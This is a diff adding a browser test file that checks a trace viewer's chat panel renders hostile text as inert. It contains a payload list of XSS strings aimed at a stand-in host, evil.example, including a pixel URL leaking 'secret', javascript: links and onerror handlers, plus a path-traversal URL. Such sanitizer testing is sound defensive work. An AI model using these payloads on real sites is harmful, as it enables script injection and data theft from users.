@@ -1,0 +1,167 @@
+"""Hostile texts in a browser: nothing they hold is run, asked for or followed."""
+
+import json
+
+import pytest
+from playwright.async_api import expect
+
+from tests.fakes.chat import answer, calling
+from tests.fakes.panel import PanelReader
+from tests.fakes.service import TRACE_ID, span_id
+from tests.page.browser import Visit
+
+pytestmark = pytest.mark.asyncio(loop_scope="session")
+
+EVIL = "https://evil.example"
+_NAME = "<img src=x onerror=hacked()>](https://evil.example) {span:x} `"
+_MARKDOWN = [
+    f"![a picture]({EVIL}/pixel.png?q=secret)",
+    f"![by reference][p]\n\n[p]: {EVIL}/pixel.png",
+    f"<img src='{EVIL}/x.png' onerror='hacked()'>",
+    f"<script src='{EVIL}/x.js'></script><script>hacked()</script>",
+    "<svg onload=hacked()><animate onbegin=hacked() attributeName=x dur=1s></svg>",
+    f"<iframe src='{EVIL}'></iframe><object data='{EVIL}'></object>",
+    f"<style>@import url({EVIL}/x.css); body {{ display: none }}</style>",
+    f"<form action='{EVIL}'><input name=x><button>Go</button></form>",
+    f"<link rel=stylesheet href={EVIL}><meta http-equiv=refresh content='0;url={EVIL}'>",
+    "[click me](javascript:hacked())",
+    "[click me](&#106;avascript:hacked())",
+    "[click me](java\tscript:hacked())",
+    "[click me](data&#58;text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==)",
+    f"[click me]({EVIL}/click)",
+    "[click me](//evil.example/click)",
+    "[click me](\\\\evil.example/click)",
+    f"<{EVIL}/auto> and {EVIL}/bare and www.evil.example and me@evil.example",
+    "[a](http://a'onmouseover='hacked()) `<img src=x onerror=hacked()>`",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=hacked()>'>",
+    "| <img src=x onerror=hacked()> |\n|--|\n| <a href='javascript:hacked()'>x</a> |",
+    "```html\n<script>hacked()</script>\n```",
+    "<div id=view class=top style='position:fixed;inset:0' onclick=hacked()>over</div>",
+]
+_TEXT = "\n\n".join(_MARKDOWN)
+
+
+async def _armed(visit: Visit) -> None:
+    """Any script that an injected text gets to run is told of."""
+    await visit.page.add_init_script("window.hacked = () => console.error('HACKED');")
+
+
+async def _check(visit: Visit) -> None:
+    bubble = visit.said.last
+    inside = await bubble.evaluate(
+        """(bubble) => {
+             const all = [...bubble.querySelectorAll("*")];
+             return {
+               names: all.map((each) => each.localName),
+               attributes: all.flatMap((each) => each.getAttributeNames()),
+               links: all.filter((each) => each.href).map((each) => each.href),
+             };
+           }"""
+    )
+    loading = {"img", "svg", "script", "style", "iframe", "object", "form", "input", "link", "math"}
+    assert loading.isdisjoint(inside["names"])
+    assert set(inside["attributes"]) <= {"href", "start", "align"}
+    assert inside["links"] == []
+
+
+async def test_a_hostile_answer_neither_runs_nor_loads_anything(visit: Visit) -> None:
+    await _armed(visit)
+    visit.service.chat.scripts = [answer(*_TEXT.partition("bare"))]
+    await visit.open_trace()
+    await visit.ask(_TEXT)
+    await visit.answered()
+    await _check(visit)
+    await expect(visit.said.first).to_have_text(_TEXT.strip())
+    await expect(visit.said.last).to_contain_text("<script>hacked()</script>")
+    for link in await visit.said.last.get_by_text("click me").all():
+        await link.click()
+    await expect(visit.chat).to_be_visible()
+    await visit.open_trace()
+    await _check(visit)
+
+
+@pytest.mark.slow
+async def test_each_hostile_text_alone_becomes_inert(visit: Visit) -> None:
+    await _armed(visit)
+    await visit.open_trace()
+    for markdown in _MARKDOWN:
+        await _rendered(visit, markdown)
+        await _check(visit)
+
+
+@pytest.mark.slow
+async def test_any_prefix_of_a_hostile_text_is_inert(visit: Visit) -> None:
+    await _armed(visit)
+    await visit.open_trace()
+    await _rendered(visit, *(_TEXT[:end] for end in range(0, len(_TEXT), 3)))
+    await _check(visit)
+
+
+async def _rendered(visit: Visit, *texts: str) -> None:
+    """Shows the texts in the log, one after the other in the same place."""
+    await visit.page.evaluate(
+        """async (texts) => {
+             const { render } = await import("/page/markdown.js");
+             const log = document.querySelector("[role=log]");
+             log.replaceChildren(document.createElement("div"));
+             for (const text of texts) render(log.firstChild, text);
+           }""",
+        texts,
+    )
+
+
+@pytest.mark.slow
+async def test_hostile_names_stay_text_wherever_they_are_shown(visit: Visit) -> None:
+    await _armed(visit)
+    records = visit.service.standin.records
+    span = {"id": span_id(9), "trace_id": TRACE_ID, "parent_span_id": span_id(1), "type": _NAME}
+    error = {"exception_type": _NAME, "message": _NAME, "traceback": _NAME}
+    times = {"start_time": "2026-11-20T10:00:00Z", "end_time": "2026-11-20T10:00:04Z"}
+    body = {"input": {_NAME: _NAME}, "output": _NAME, "model": _NAME, "error_info": error}
+    records.put_spans([{**span, **times, **body, "name": _NAME, "project_name": "shop"}])
+    trace = {"id": TRACE_ID, "name": _NAME, "tags": [_NAME], "thread_id": _NAME, **times}
+    records.put_traces([{**trace, "project_name": "shop"}])
+    visit.service.chat.scripts = [
+        calling(("get_span_details", json.dumps({"span_id": span_id(9)}))),
+        answer("Done."),
+    ]
+    await visit.open("/")
+    await visit.page.get_by_role("link", name=_NAME).click()
+    await expect(visit.chat).to_have_attribute("data-filled", "")
+    await expect(visit.page.get_by_role("heading", name=_NAME)).to_have_text(_NAME)
+    await visit.ask("Why?")
+    await visit.answered()
+    await visit.said.get_by_role("link").click()
+    await expect(visit.page.locator(".picked pre").last).to_have_text(_NAME)
+    assert await visit.page.locator("#view img").count() == 0
+
+
+@pytest.mark.slow
+async def test_a_hostile_address_shows_words_and_asks_nobody_else(visit: Visit) -> None:
+    await _armed(visit)
+    await visit.open("/?trace=" + "..%2f..%2f%3Cimg src=x onerror=hacked()%3E&span=%22%5D")
+    await expect(visit.page.locator(".notice")).to_be_visible()
+    visit.faults.clear()  # the 404 that was provoked
+
+
+@pytest.mark.slow
+async def test_frames_are_read_precisely_as_the_panel_reads_them(visit: Visit) -> None:
+    stream = (
+        'data: {"message_type":"response","content":{"parts":[{"text":"é 🎸"}]},"partial":true}\n\n'
+        ': ping\n\ndata: {"a":1} data: {"b":2}\ndata:{"c":3}\r\n \nnothing\ndata: \ndata: x7\n'
+        '{"no":"prefix"}\ndata: {"d":"data\\u003a"}\ndata: {"half":'
+    ).encode()
+    reads = [[stream[:cut], stream[cut:]] for cut in range(len(stream) + 1)]
+    await visit.open("/")
+    seen = await visit.page.evaluate(
+        """async (reads) => {
+             const { framesOf } = await import("/page/stream.js");
+             return reads.map((pair) => pair.flatMap((r) => framesOf(new Uint8Array(r))));
+           }""",
+        [[list(part) for part in pair] for pair in reads],
+    )
+    for pair, frames in zip(reads, seen, strict=True):
+        panel = PanelReader()
+        for part in pair:
+            panel.read(part)
+        assert frames == panel.frames
